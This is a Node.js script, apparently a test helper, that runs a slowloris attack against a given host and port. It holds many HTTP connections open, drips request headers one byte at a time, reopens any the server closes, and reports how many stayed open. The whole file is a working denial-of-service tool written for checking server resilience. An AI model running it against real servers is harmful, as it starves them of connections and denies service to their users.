// Slow clients (slowloris), run inside a test's network namespace:
//   node slow-clients.cjs HOST PORT COUNT INTERVAL_MS SECONDS
// keeps COUNT connections open to HOST:PORT for SECONDS, each dripping a
// request head one byte every INTERVAL_MS and never finishing it; a
// connection the server closes is opened again (as an attacker would). It
// prints {"opened":N,"closedByServer":N,"open":N,"answers":{...}} at the end:
// `open` is how many were open just before the end, `answers` counts the
// status lines the server sent before it closed one.
const net = require("node:net");

const [host, portText, countText, intervalText, secondsText] = process.argv.slice(2);
const [port, count, interval, seconds] = [portText, countText, intervalText, secondsText].map(Number);
const HEAD = Buffer.from("GET /index.html HTTP/1.1\r\nHost: slow\r\nX-Padding: " + "a".repeat(4096));
const end = Date.now() + seconds * 1000;
let opened = 0;
let closedByServer = 0;
let open = 0;
let openAtEnd = 0;
const answers = {};

function connect(delay) {
  if (Date.now() + delay >= end) return;
  setTimeout(() => {
    const s = net.connect({ host, port });
    let at = 0;
    let timer = null;
    let seen = "";
    opened++;
    s.on("connect", () => {
      open++;
      timer = setInterval(() => {
        if (at < HEAD.length) s.write(HEAD.subarray(at, ++at));
      }, interval);
    });
    s.on("data", (d) => (seen += d.toString("latin1")));
    s.on("error", () => {});
    s.on("close", () => {
      if (timer) {
        clearInterval(timer);
        open--;
      }
      if (Date.now() < end) {
        closedByServer++;
        const status = /^HTTP\/1\.1 (\d+)/.exec(seen)?.[1] ?? "none";
        answers[status] = (answers[status] ?? 0) + 1;
        connect(200);
      }
    });
    setTimeout(() => s.destroy(), end - Date.now()).unref();
  }, delay);
}

// Open them over the first second or two, not all in one burst.
for (let i = 0; i < count; i++) connect(Math.floor((i * 1500) / count));
setTimeout(() => (openAtEnd = open), seconds * 1000 - 300);
setTimeout(
  () => {
    console.log(JSON.stringify({ opened, closedByServer, open: openAtEnd, answers }));
    process.exit(0);
  },
  seconds * 1000 + 500,
);
